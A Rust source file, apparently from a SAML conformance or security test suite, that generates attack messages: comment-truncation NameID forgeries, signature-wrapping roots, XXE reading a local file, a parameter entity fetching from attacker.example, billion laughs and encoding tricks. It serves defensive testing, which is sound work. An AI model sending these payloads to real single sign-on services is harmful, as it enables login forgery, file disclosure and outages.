//! Text that programs read differently: comments, processing instructions, CDATA, document types, encodings.

use super::{Attack, AttackMessage, Bench, Build, Carrier, FORGED, Naive, attack, need, raw};
use crate::code::{Code, StepName};
use crate::mint::MintError;
use crate::mint::personality::{NameId, Signs};
use crate::mint::tree::{Element, Node, Style};

const COMMENT: (Code, StepName) = (Code::CommentInText, StepName::Xml);
const INSTRUCTION: (Code, StepName) = (Code::XmlProcessingInstruction, StepName::Xml);
const DOCTYPE: (Code, StepName) = (Code::XmlDoctype, StepName::Xml);

const TRUNCATION: &[&str] = &[
    "CVE-2017-11427",
    "CVE-2017-11428",
    "CVE-2017-11429",
    "CVE-2017-11430",
    "CVE-2018-0489",
    "CVE-2018-5387",
    "CVE-2018-7340",
];

/// The variants of this family.
pub(super) const TABLE: &[Attack] = &[
    attack(
        "comment-in-name-id-assertion",
        Signs::Assertion,
        COMMENT,
        Build::Tree(comment_in_name_id),
        "A comment in the signed NameID: admin@district.example<!---->.evil.example.",
    )
    .that_recalls(TRUNCATION)
    .that_fools(Naive::FirstSignature),
    attack(
        "comment-in-name-id-response",
        Signs::Response,
        COMMENT,
        Build::Tree(comment_in_name_id),
        "The same under a signed response.",
    )
    .that_recalls(TRUNCATION)
    .that_fools(Naive::FirstSignature),
    attack(
        "comment-in-name-id-both",
        Signs::Both,
        COMMENT,
        Build::Tree(comment_in_name_id),
        "The same with both parts signed.",
    )
    .that_recalls(TRUNCATION)
    .that_fools(Naive::FirstSignature),
    attack(
        "comment-before-name-id",
        Signs::Assertion,
        COMMENT,
        Build::Tree(comment_before_name_id),
        "A comment at the beginning of the signed NameID.",
    )
    .that_recalls(TRUNCATION),
    attack(
        "comment-in-attribute",
        Signs::Assertion,
        COMMENT,
        Build::Tree(comment_in_attribute),
        "A comment in a signed AttributeValue.",
    )
    .that_recalls(TRUNCATION),
    attack(
        "comment-in-issuer",
        Signs::Assertion,
        COMMENT,
        Build::Tree(comment_in_issuer),
        "A comment in the signed Issuer.",
    )
    .that_recalls(TRUNCATION),
    attack(
        "comment-in-audience",
        Signs::Assertion,
        COMMENT,
        Build::Tree(comment_in_audience),
        "A comment in the signed Audience, which would shorten another's entity ID to ours.",
    )
    .that_recalls(TRUNCATION),
    attack(
        "instruction-in-name-id",
        Signs::Assertion,
        INSTRUCTION,
        Build::Tree(instruction_in_name_id),
        "A processing instruction in the NameID.",
    ),
    attack(
        "instruction-before-root",
        Signs::Assertion,
        INSTRUCTION,
        Build::Messages(instruction_before_root),
        "A processing instruction before the root.",
    ),
    attack(
        "cdata-in-name-id",
        Signs::Assertion,
        (Code::DigestMismatch, StepName::AssertionSignature),
        Build::Tree(cdata_in_name_id),
        "A forged NameID in a CDATA section before the signed text, for receivers that read the first text node.",
    ),
    attack(
        "element-in-name-id",
        Signs::Assertion,
        (Code::NameIdMalformed, StepName::Subject),
        Build::Content(element_in_name_id),
        "An element inside the NameID, validly signed.",
    ),
    attack(
        "doctype-empty",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_empty),
        "A document type declaration that does nothing.",
    ),
    attack(
        "doctype-entity",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_entity),
        "An internal entity that spells the NameID.",
    )
    .that_recalls(&["CVE-2025-25291", "CVE-2025-25292"]),
    attack(
        "doctype-external-entity",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_external),
        "An external entity that reads a file (XXE).",
    )
    .that_recalls(&["XXE"]),
    attack(
        "doctype-parameter-entity",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_parameter),
        "An external parameter entity that calls a URL.",
    )
    .that_recalls(&["XXE"]),
    attack(
        "doctype-billion-laughs",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_laughs),
        "Entities of entities that would fill the memory.",
    )
    .that_recalls(&["billion laughs"]),
    attack(
        "doctype-default-attribute",
        Signs::Assertion,
        DOCTYPE,
        Build::Messages(doctype_attlist),
        "A default attribute from an ATTLIST, which only some parsers add.",
    )
    .that_recalls(&["CVE-2025-25291", "CVE-2025-25292"]),
    attack(
        "entity-undeclared",
        Signs::Assertion,
        (Code::XmlEntity, StepName::Xml),
        Build::Tree(entity_undeclared),
        "A reference to an entity that nobody declared.",
    ),
    attack(
        "root-twice",
        Signs::Response,
        (Code::XmlMalformed, StepName::Xml),
        Build::Messages(root_twice),
        "A forged response as a second root element before the signed one.",
    )
    .that_recalls(&["CVE-2022-39299", "CVE-2022-39300", "CVE-2022-39353"]),
    attack(
        "encoding-utf-16",
        Signs::Assertion,
        (Code::XmlEncoding, StepName::Xml),
        Build::Messages(utf_16),
        "The message in UTF-16.",
    ),
    attack(
        "encoding-declared-utf-7",
        Signs::Assertion,
        (Code::XmlEncoding, StepName::Xml),
        Build::Messages(utf_7),
        "A declaration of another encoding than the bytes have.",
    ),
    attack(
        "nesting-deep",
        Signs::Assertion,
        (Code::XmlLimits, StepName::Xml),
        Build::Tree(nesting_deep),
        "Two thousand levels of nesting in Extensions.",
    )
    .that_recalls(&["deep nesting"]),
];

/// A valid message whose signed subject is `FORGED` with more behind it.
fn longer_subject(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    bench.request.options.name_id =
        Some(NameId { value: format!("{FORGED}.evil.example"), format: None, is_qualified: false });
    let minted = bench.valid(signs);
    bench.request.options.name_id = None;
    Ok(minted?.root)
}

fn split(element: &mut Element, parts: (&str, &str), markup: &str) {
    element.children =
        vec![Node::Text(parts.0.to_owned()), Node::Raw(markup.to_owned()), Node::Text(parts.1.to_owned())];
}

fn comment_in_name_id(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = longer_subject(bench, signs)?;
    split(need(&mut root, "NameID")?, (FORGED, ".evil.example"), "<!---->");
    Ok(root)
}

fn comment_before_name_id(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    need(&mut root, "NameID")?.insert(0, Node::Raw(format!("<!--{FORGED}-->")));
    Ok(root)
}

/// Puts a comment into the middle of the text of an element.
fn comment_inside(element: &mut Element) {
    if let Some(Node::Text(text)) = element.children.first().cloned() {
        let middle = text.char_indices().nth(text.chars().count() / 2).map_or(0, |(at, _)| at);
        let (first, second) = text.split_at(middle);
        split(element, (first, second), "<!--x-->");
    }
}

fn comment_in_attribute(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    comment_inside(need(&mut root, "AttributeValue")?);
    Ok(root)
}

fn comment_in_issuer(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    comment_inside(need(need(&mut root, "Assertion")?, "Issuer")?);
    Ok(root)
}

fn comment_in_audience(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let ours = bench.request.sp_entity_id;
    let mut draft = bench.draft(signs);
    need(&mut draft.root, "Audience")?.set_text(&format!("{ours}.evil.example"));
    let mut root = draft.seal(bench.random)?.root;
    split(need(&mut root, "Audience")?, (ours, ".evil.example"), "<!---->");
    Ok(root)
}

fn instruction_in_name_id(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = longer_subject(bench, signs)?;
    split(need(&mut root, "NameID")?, (FORGED, ".evil.example"), "<?x?>");
    Ok(root)
}

fn cdata_in_name_id(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    need(&mut root, "NameID")?.insert(0, Node::Raw(format!("<![CDATA[{FORGED}]]>")));
    Ok(root)
}

fn element_in_name_id(root: &mut Element) -> Result<(), MintError> {
    need(root, "NameID")?.insert(0, Element::new("x").text(FORGED).into());
    Ok(())
}

fn entity_undeclared(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    need(&mut root, "NameID")?.insert(0, Node::Raw("&who;".to_owned()));
    Ok(root)
}

fn nesting_deep(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    let depth = 2000;
    let markup = format!("<x:e xmlns:x=\"urn:x\">{}{}</x:e>", "<x:e>".repeat(depth), "</x:e>".repeat(depth));
    root.insert(1, Node::Raw(markup));
    Ok(root)
}

/// The bytes of a valid message, changed by `edit`.
fn rewritten(
    bench: &mut Bench<'_>,
    signs: Signs,
    edit: impl FnOnce(&Element) -> String,
) -> Result<Vec<AttackMessage>, MintError> {
    let root = bench.valid(signs)?.root;
    Ok(vec![raw(Carrier::Xml, edit(&root).into_bytes())])
}

/// A valid message behind a document type declaration with this internal subset.
fn with_doctype(bench: &mut Bench<'_>, signs: Signs, subset: &str) -> Result<Vec<AttackMessage>, MintError> {
    rewritten(bench, signs, |root| {
        format!("<!DOCTYPE {} [{subset}]>{}", root.name, root.document(Style::default()))
    })
}

/// The same, with the NameID replaced by a reference to the entity `who`.
fn with_entity(bench: &mut Bench<'_>, signs: Signs, subset: &str) -> Result<Vec<AttackMessage>, MintError> {
    let mut root = bench.valid(signs)?.root;
    need(&mut root, "NameID")?.children = vec![Node::Raw("&who;".to_owned())];
    let text = format!("<!DOCTYPE {} [{subset}]>{}", root.name, root.document(Style::default()));
    Ok(vec![raw(Carrier::Xml, text.into_bytes())])
}

fn instruction_before_root(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    rewritten(bench, signs, |root| {
        format!("<?xml-stylesheet href=\"x\"?>{}", root.document(Style::default()))
    })
}

fn doctype_empty(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    rewritten(bench, signs, |root| format!("<!DOCTYPE {}>{}", root.name, root.document(Style::default())))
}

fn doctype_entity(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    with_entity(bench, signs, &format!("<!ENTITY who \"{FORGED}\">"))
}

fn doctype_external(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    with_entity(bench, signs, "<!ENTITY who SYSTEM \"file:///etc/hostname\">")
}

fn doctype_parameter(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    with_doctype(bench, signs, "<!ENTITY % all SYSTEM \"http://attacker.example/x.dtd\"> %all;")
}

fn doctype_laughs(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    let mut subset = String::from("<!ENTITY l0 \"ha\">");
    for level in 1..10 {
        let inner = format!("&l{};", level - 1).repeat(10);
        subset.push_str("<!ENTITY l");
        subset.push_str(&level.to_string());
        subset.push_str(" \"");
        subset.push_str(&inner);
        subset.push_str("\">");
    }
    subset.push_str("<!ENTITY who \"&l9;\">");
    with_entity(bench, signs, &subset)
}

fn doctype_attlist(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    with_doctype(bench, signs, "<!ATTLIST NameID Format CDATA \"urn:example:default\">")
}

fn root_twice(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    let original = bench.valid(signs)?.root;
    let evil = bench.forged(&original)?;
    let text = evil.document(Style::default()) + &original.document(Style::default());
    Ok(vec![raw(Carrier::Xml, text.into_bytes())])
}

fn utf_16(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    let text = bench.valid(signs)?.root.document(Style::default());
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    Ok(vec![raw(Carrier::Xml, bytes)])
}

fn utf_7(bench: &mut Bench<'_>, signs: Signs) -> Result<Vec<AttackMessage>, MintError> {
    rewritten(bench, signs, |root| {
        format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{}", root.document(Style::default()))
    })
}
